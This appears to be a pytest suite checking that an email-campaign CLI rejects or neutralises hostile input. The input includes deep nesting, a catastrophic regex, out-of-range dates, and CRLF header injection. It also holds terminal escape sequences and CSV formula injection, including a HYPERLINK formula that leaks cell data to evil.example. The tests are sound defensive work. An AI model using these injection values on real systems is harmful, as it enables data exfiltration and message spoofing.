"""Hostile input: whatever a definition, an argument or the environment holds, the answer is a
located error with the documented exit code, never exit 70 ("a bug") and never a hang."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from campaignctl.cli.main import app
from campaignctl.store.functions import SYNTAX_HINT

runner = CliRunner()


def run(root: Path, *args: str, env: dict[str, str] | None = None):
    return runner.invoke(app, ["--workspace", str(root), *args], env=env)


def edit(root: Path, relative: str, old: str, new: str) -> None:
    path = root / relative
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {relative}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def body(result) -> list[str]:
    """The diagnostic lines of `validate`, without hints."""
    return [line for line in result.stdout.splitlines() if not line.startswith("  hint:")]


# ------------------------------------------------------------------ YAML nesting


def test_yaml_nested_400_deep_is_a_located_error(scaffold: Path) -> None:
    (scaffold / "audiences" / "segments" / "deep.yaml").write_text(
        "kind: Segment\nname: deep\nx: " + "[" * 400 + "]" * 400 + "\n", encoding="utf-8"
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "audiences/segments/deep.yaml:3:68: error[yaml-syntax]: values are nested more than "
        "64 levels deep"
    ]
    assert "Traceback" not in result.output


def test_block_style_nesting_is_refused_the_same_way(scaffold: Path) -> None:
    deep = "".join("  " * i + "-\n" for i in range(80)) + "  " * 80 + "- x\n"
    (scaffold / "campaigns" / "deep.yaml").write_text(
        "kind: Campaign\nname: deep\nsteps:\n" + deep, encoding="utf-8"
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "campaigns/deep.yaml:68:129: error[yaml-syntax]: values are nested more than 64 levels deep"
    ]


# ------------------------------------------------------------------ arguments and environment


@pytest.mark.parametrize("now", ["9999-12-31T23:00", "0001-01-01T00:00+05:00"])
def test_out_of_range_now_is_a_usage_error_naming_it(scaffold: Path, now: str) -> None:
    result = run(scaffold, "plan", env={"CAMPAIGNCTL_NOW": now})
    assert result.exit_code == 64, result.output
    assert result.stderr == (
        f"error: CAMPAIGNCTL_NOW={now!r} is out of range: campaignctl works with dates from "
        "1970-01-01 to 2999-12-31\n"
        "  hint: write a date-time like 2027-03-01T09:00:00+01:00, or unset it\n"
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["--from", "9999-12-01"],
            "error: --from '9999-12-01' is out of range: campaignctl works with dates from "
            "1970-01-01 to 2999-12-31\n",
        ),
        (
            ["--from", "2027-01-01", "--to", "0099-01-01"],
            "error: --to '0099-01-01' is out of range: campaignctl works with dates from "
            "1970-01-01 to 2999-12-31\n",
        ),
    ],
)
def test_calendar_dates_out_of_range_are_usage_errors_naming_them(
    scaffold: Path, args: list[str], message: str
) -> None:
    result = run(scaffold, "calendar", *args)
    assert result.exit_code == 64, result.output
    assert result.stderr == message


def test_calendar_runs_up_to_the_last_day_of_the_range(scaffold: Path, tmp_path: Path) -> None:
    ics = tmp_path / "late.ics"
    result = run(scaffold, "calendar", "--from", "2999-12-01", "--ics", str(ics))
    assert result.exit_code == 0, result.output
    assert result.stderr == (
        f"wrote 0 event(s) to {ics}\nNothing scheduled from 2999-12-01 to 2999-12-31.\n"
    )
    assert ics.read_text(encoding="utf-8").startswith("BEGIN:VCALENDAR")


def test_a_huge_lock_timeout_is_a_usage_error_naming_it(scaffold: Path) -> None:
    result = run(scaffold, "send", "update-2027", "--now", "--lock-timeout", "99999999999d")
    assert result.exit_code == 64, result.output
    assert result.stderr == (
        "error: --lock-timeout: duration '99999999999d' is too long: at most 3650d (ten years)\n"
    )


def test_a_huge_duration_in_a_definition_is_a_located_error(scaffold: Path) -> None:
    edit(scaffold, "campaigns/update-2027.yaml", "after: 7d", "after: 99999999999d")
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "campaigns/update-2027.yaml:28:15: error[invalid-value]: schedule.relaunch[0].after: "
        "duration '99999999999d' is too long: at most 3650d (ten years)"
    ]


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        (
            "mysql://root:s3cret@db/campaigns",
            "unsupported store URL 'mysql://root:***@db/campaigns'",
        ),
        ("foo", "unsupported store URL 'foo'"),
        (
            "postgresql+psycopg://u@db:port/x",
            "invalid store URL 'postgresql+psycopg://u@db:port/x': Port could not be cast to "
            "integer value as 'port'",
        ),
    ],
)
def test_an_unusable_store_variable_is_a_usage_error_naming_it(
    scaffold: Path, url: str, shown: str
) -> None:
    result = run(scaffold, "plan", env={"CAMPAIGNCTL_STORE": url})
    assert result.exit_code == 64, result.output
    assert result.stderr.startswith(f"error: CAMPAIGNCTL_STORE: {shown}")
    assert "  hint: fix or unset CAMPAIGNCTL_STORE\n" in result.stderr
    assert "s3cret" not in result.output


def test_an_unusable_store_in_the_settings_is_a_located_error(scaffold: Path) -> None:
    edit(
        scaffold,
        "campaignctl.yaml",
        "store: sqlite:///.campaignctl/store.db",
        "store: mysql://root:s3cret@db/campaigns",
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "campaignctl.yaml:3:8: error[invalid-value]: store: unsupported store URL "
        "'mysql://root:***@db/campaigns': the store is SQLite (sqlite:///.campaignctl/store.db) "
        "or PostgreSQL (postgresql+psycopg://USER@HOST/DB)"
    ]
    assert "s3cret" not in result.output


# ------------------------------------------------------------------ segment patterns

CLI = Path(sys.executable).with_name("campaignctl")


def test_a_catastrophic_pattern_counts_a_long_value_at_once(scaffold: Path, backend: str) -> None:
    """`^([A-Za-z0-9]+ ?)+$` against 40 letters and a `!` takes Python's backtracking `re`
    hours; RE2 answers in linear time, on SQLite as on PostgreSQL (whose `~` is no
    backtracker either). The timeout only stops a hung run: it measures nothing."""
    with (scaffold / "audiences" / "contacts.csv").open("a", encoding="utf-8") as csv:
        csv.write("X001;" + "a" * 40 + "!;x@example.org;;hotel;Val;;2027-03-10;\n")
    (scaffold / "audiences" / "segments" / "slow.yaml").write_text(
        "kind: Segment\nname: slow\naudience: providers\n"
        "where:\n  nom: {matches: '^([A-Za-z0-9]+ ?)+$'}\n",
        encoding="utf-8",
    )
    imported = subprocess.run(
        [CLI, "-w", scaffold, "audience", "import"], capture_output=True, text=True, timeout=120
    )
    assert imported.returncode == 0, imported.stderr
    counted = subprocess.run(
        [CLI, "-w", scaffold, "segment", "show", "slow", "--count"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert counted.returncode == 0, counted.stderr
    assert counted.stdout == "slow: 3 records (audience providers)\n"  # not the long one


@pytest.mark.parametrize(
    ("pattern", "reason"),
    [
        (r"^(a)\1$", r"invalid escape sequence: \1"),
        ("^(?=Hôtel)", "invalid perl operator: (?="),
        ("(?<!Camping )Val", "invalid perl operator: (?<!"),
    ],
)
def test_patterns_re2_cannot_run_are_located_errors_with_a_hint(
    scaffold: Path, pattern: str, reason: str
) -> None:
    (scaffold / "audiences" / "segments" / "slow.yaml").write_text(
        f"kind: Segment\nname: slow\naudience: providers\nwhere:\n  nom: {{matches: '{pattern}'}}\n",
        encoding="utf-8",
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert result.stdout.splitlines()[:2] == [
        f"audiences/segments/slow.yaml:5:18: error[invalid-value]: where.nom.matches: invalid "
        f"regular expression {pattern!r}: {reason}",
        f"  hint: {SYNTAX_HINT}",
    ]
    assert "re2.cc" not in result.output  # RE2's own log lines stay off the terminal


@pytest.mark.parametrize(
    ("pattern", "construct"),
    [(r"Lac\z", r"\z"), (r"\bLac\b", r"\b"), ("(?P<name>Lac)", "(?P"), (r"\pL+", r"\p")],
)
def test_patterns_postgresql_reads_otherwise_are_located_errors(
    scaffold: Path, pattern: str, construct: str
) -> None:
    """On PostgreSQL `\\z` was a DataError (exit 70) and `\\b` a backspace, not a word boundary."""
    (scaffold / "audiences" / "segments" / "pg.yaml").write_text(
        f"kind: Segment\nname: pg\naudience: providers\nwhere:\n  nom: {{matches: '{pattern}'}}\n",
        encoding="utf-8",
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        f"audiences/segments/pg.yaml:5:18: error[invalid-value]: where.nom.matches: regular "
        f"expression {pattern!r}: {construct} is read otherwise by PostgreSQL, or refused"
    ]


def test_portable_patterns_count_the_same_on_both_stores(scaffold: Path, backend: str) -> None:
    (scaffold / "audiences" / "segments" / "portable.yaml").write_text(
        "kind: Segment\nname: portable\naudience: providers\nwhere:\n"
        r"  nom: {matches: '(?i)^(camping|h.tel)\s+(du|les)(\W|$)'}"
        "\n",
        encoding="utf-8",
    )
    assert run(scaffold, "audience", "import").exit_code == 0
    result = run(scaffold, "segment", "show", "portable", "--count")
    assert result.exit_code == 0, result.output
    assert result.stdout == "portable: 3 records (audience providers)\n"


# ------------------------------------------------------------------ template nesting


def test_300_nested_ifs_are_a_located_template_error(scaffold: Path) -> None:
    with (scaffold / "templates" / "renewal.txt.j2").open("a", encoding="utf-8") as template:
        template.write("".join("{% if true %}\n" for _ in range(300)) + "deep\n")
        template.write("{% endif %}\n" * 300)
    lines = (scaffold / "templates" / "renewal.txt.j2").read_text(encoding="utf-8").splitlines()
    first_if = lines.index("{% if true %}") + 1
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert result.stdout.splitlines()[:2] == [
        f"templates/renewal.txt.j2:{first_if + 40}:1: error[template-syntax]: syntax error: "
        "nested too deep: more than 40 blocks, brackets and operators inside one another",
        "  hint: move the inner part into a macro or an included template",
    ]


def test_500_parentheses_are_a_located_template_error(scaffold: Path) -> None:
    (scaffold / "templates" / "parens.txt.j2").write_text(
        "Bonjour\n{{ " + "(" * 500 + "1" + ")" * 500 + " }}\n", encoding="utf-8"
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "templates/parens.txt.j2:2:1: error[template-syntax]: syntax error: nested too deep: "
        "more than 40 blocks, brackets and operators inside one another"
    ]


def test_nested_loops_past_python_s_limit_are_a_located_template_error(scaffold: Path) -> None:
    (scaffold / "templates" / "loops.txt.j2").write_text(
        "{% for a in [1] %}" * 21 + "x" + "{% endfor %}" * 21 + "\n", encoding="utf-8"
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "templates/loops.txt.j2:1:1: error[template-syntax]: syntax error: nested too deep: "
        "more than 16 {% for %} loops inside one another"
    ]


def test_a_deep_subject_is_located_in_the_campaign(scaffold: Path) -> None:
    edit(
        scaffold,
        "campaigns/renewal-reminder.yaml",
        "subject: ",
        'subject: "{{ ' + "(" * 300 + "1" + ")" * 300 + ' }}" # ',
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    [line] = body(result)
    assert line.startswith("campaigns/renewal-reminder.yaml:")
    assert line.endswith(
        "error[template-syntax]: syntax error in the subject: nested too deep: more than 40 "
        "blocks, brackets and operators inside one another"
    )


def test_a_deep_template_is_a_template_error_at_render_time(scaffold: Path) -> None:
    """Rendering compiles what validate did not see (a template edited since): the same
    located error, never a RecursionError."""
    import jinja2

    from campaignctl.render.environment import make_environment, template_error

    env = make_environment(scaffold)
    (scaffold / "templates" / "late.txt.j2").write_text(
        "{{ record.nom }}\n" + "{% if true %}" * 300 + "\n", encoding="utf-8"
    )
    with pytest.raises(jinja2.TemplateSyntaxError) as caught:
        env.get_template("late.txt.j2")
    problem = template_error(caught.value, scaffold, "late.txt.j2")
    assert problem.exit_code == 65
    assert problem.diagnostic.format() == (
        "templates/late.txt.j2:2:1: error[template-syntax]: syntax error: nested too deep: more "
        "than 40 blocks, brackets and operators inside one another\n"
        "  hint: move the inner part into a macro or an included template"
    )


# the stack's depth when the command starts, one frame more or less (as the interpreter, the
# terminal's or CI's launcher make it): the loop is named the same either way
@pytest.mark.parametrize("deeper", [0, 1])
def test_templates_that_include_each_other_are_a_template_error(
    scaffold: Path, deeper: int
) -> None:
    (scaffold / "templates" / "loop.txt.j2").write_text(
        '{% include "update-request" ~ ".txt.j2" %}\n', encoding="utf-8"
    )
    with (scaffold / "templates" / "update-request.txt.j2").open("a", encoding="utf-8") as f:
        f.write('{% include "loop" ~ ".txt.j2" %}\n')  # its line 28
    assert run(scaffold, "audience", "import").exit_code == 0
    sys.setrecursionlimit(sys.getrecursionlimit() + deeper)
    try:
        result = run(scaffold, "preview", "update-2027", "--format", "text")
    finally:
        sys.setrecursionlimit(sys.getrecursionlimit() - deeper)
    assert result.exit_code == 65, result.output
    # where the loop is entered: the include in the campaign's own template
    assert result.stderr.splitlines()[:2] == [
        "templates/update-request.txt.j2:28:1: error[template-error]: nested too deep: templates "
        "or macros include or call one another without end (rendering the text part for record "
        "H001)",
        "  hint: look for an {% include %} or a macro call that comes back to where it started",
    ]


# ------------------------------------------------------------------ headers and the terminal


def test_a_line_break_in_a_sender_is_a_located_error(scaffold: Path) -> None:
    edit(
        scaffold,
        "campaignctl.yaml",
        'from: "Office de tourisme <contact@example.org>"',
        r'from: "Office de tourisme <contact@example.org>\r\nFrom: victim@evil.example"',
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert result.stdout.splitlines() == [
        "campaignctl.yaml:12:11: error[invalid-value]: senders.default.from: sender 'Office de "
        "tourisme <contact@example.org>\\r\\nFrom: victim@evil.example' holds a control "
        "character (a line break would add headers of its own to every message)",
        "  hint: write the sender on one line: 'Name <address@example.org>'",
    ]


HOSTILE_NAME = "Hôtel\x07 du \x1b[31mLac\x1b[2J"  # a bell, a colour, a clear screen


def _hostile_contact(root: Path) -> None:
    with (root / "audiences" / "contacts.csv").open("a", encoding="utf-8") as csv:
        csv.write(f"X001;{HOSTILE_NAME};x1@example.org;;hotel;Val;;2027-03-10;\n")


def test_control_characters_from_a_record_never_reach_the_subject(scaffold: Path) -> None:
    from email import message_from_bytes, policy

    _hostile_contact(scaffold)
    edit(scaffold, "campaigns/update-2027.yaml", 'subject: "', 'subject: "{{ record.nom }} — ')
    assert run(scaffold, "audience", "import").exit_code == 0
    result = runner.invoke(
        app,
        [
            "--workspace",
            str(scaffold),
            "preview",
            "update-2027",
            "--contact",
            "X001",
            "--format",
            "eml",
        ],
    )
    assert result.exit_code == 0, result.output
    head = result.stdout_bytes.split(b"\r\n\r\n", 1)[0]
    assert not any(byte < 0x20 and byte not in b"\r\n\t" for byte in head)
    message = message_from_bytes(result.stdout_bytes, policy=policy.default)
    assert message["Subject"] == (
        "Hôtel du [31mLac[2J — Office de tourisme du Val — mettez à jour votre fiche"
    )


def test_audience_show_writes_control_characters_as_escapes(scaffold: Path) -> None:
    _hostile_contact(scaffold)
    assert run(scaffold, "audience", "import").exit_code == 0
    result = run(scaffold, "audience", "show", "X001")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "  nom: Hôtel\\x07 du \\x1b[31mLac\\x1b[2J" in result.stdout.splitlines()


def test_every_console_line_and_table_cell_writes_control_characters_as_escapes() -> None:
    """The CLI's consoles (cli/app.py) are `terminal.console`s: tables of stored data
    (plan's records not contacted, report rows…) are escaped like printed lines."""
    import io

    from rich.table import Table

    from campaignctl.cli.terminal import console

    buffer = io.StringIO()
    out = console(file=buffer, width=60, markup=False, no_color=True)
    table = Table("record", "reason")
    table.add_row("X\x1b[2J01", "no address\r")
    out.print(table)
    out.print("bell\x07 and \u202eoverride")
    text = buffer.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert "X\\x1b[2J01" in text and "no address\\x0d" in text
    assert text.endswith("bell\\x07 and \\u202eoverride\n")


# ------------------------------------------------------------------ CSV files we write


def test_the_rejects_csv_is_formula_safe_like_the_reports(scaffold: Path, tmp_path: Path) -> None:
    import csv

    with (scaffold / "audiences" / "contacts.csv").open("a", encoding="utf-8") as source:
        source.write('@SUM(1+1);Evil;"=HYPERLINK(""http://evil.example/?""&A1,""clic"")";')
        source.write("+33 1;hotel;Val;;-2027;\n")
    rejects = tmp_path / "rejects.csv"
    result = run(scaffold, "audience", "import", "--rejects", str(rejects))
    assert result.exit_code == 0, result.output
    with rejects.open(encoding="utf-8", newline="") as handle:
        rows = [row[:5] for row in csv.reader(handle)]
    assert rows == [
        ["row", "key", "column", "value", "reason"],
        [
            "9",
            "'@SUM(1+1)",
            "email",
            '\'=HYPERLINK("http://evil.example/?"&A1,"clic")',
            "invalid_email",
        ],
        ["9", "'@SUM(1+1)", "telephone", "'+33 1", "invalid_phone"],
        ["9", "'@SUM(1+1)", "contract_end", "'-2027", "invalid_date"],
    ]


# ------------------------------------------------------------------ dates in definitions


def test_a_relative_date_reaching_past_any_calendar_is_a_located_error(scaffold: Path) -> None:
    """`today+9999y` validated, then `segment show` and `plan` ended in exit 70."""
    edit(scaffold, "audiences/segments/renewing-soon.yaml", "today+15d", "today+9999y")
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "audiences/segments/renewing-soon.yaml:9:39: error[invalid-value]: relative date "
        "'today+9999y' reaches too far: offsets add up to at most 1000 years (366000d)"
    ]


def test_a_send_date_out_of_range_is_a_located_error(scaffold: Path) -> None:
    edit(
        scaffold,
        "campaigns/update-2027.yaml",
        "send_at: 2027-03-01T09:00",
        "send_at: 9999-12-31T23:00",
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result)[0] == (
        "campaigns/update-2027.yaml:26:12: error[invalid-value]: schedule.send_at: "
        "9999-12-31T23:00:00 is out of range: campaignctl works with dates from 1970-01-01 to "
        "2999-12-31"
    )


def test_a_list_item_with_only_an_unknown_key_is_reported_not_a_crash(scaffold: Path) -> None:
    """Found by tests/spec/test_fuzz.py: salvaging the rest of the file raised IndexError."""
    (scaffold / "questionnaires" / "odd.yaml").write_text(
        "kind: Questionnaire\nname: odd\nfields:\n- kind: null\n", encoding="utf-8"
    )
    result = run(scaffold, "validate")
    assert result.exit_code == 65, result.output
    assert body(result) == [
        "questionnaires/odd.yaml:4:3: error[missing-field]: missing required key 'id' in fields[0]",
        "questionnaires/odd.yaml:4:3: error[unknown-key]: unknown key 'kind' in fields[0]",
    ]


def test_a_store_error_is_one_line_without_the_sql_or_the_records_it_carried(
    scaffold: Path, backend: str
) -> None:
    """A bug (here: a store altered by hand) surfacing as a database error prints the
    driver's one-line message, never the statement and its bound values (records' data)."""
    from tests.delivery.locking import open_store

    assert (
        CliRunner().invoke(app, ["--workspace", str(scaffold), "audience", "import"]).exit_code == 0
    )
    store = open_store(scaffold)
    with store.transaction() as conn:
        conn.exec_driver_sql("ALTER TABLE record RENAME COLUMN phone TO phone_number")
    store.close()

    result = CliRunner().invoke(app, ["--workspace", str(scaffold), "audience", "show", "H001"])

    assert result.exit_code == 70
    first, hint = result.stderr.splitlines()
    assert (
        first
        == {
            "sqlite": "internal error: OperationalError: no such column: record.phone",
            "postgresql": "internal error: UndefinedColumn: column record.phone does not exist",
        }[backend]
    )
    assert hint.startswith(
        "  hint: this is a bug in campaignctl. Run the command again with --debug"
    )
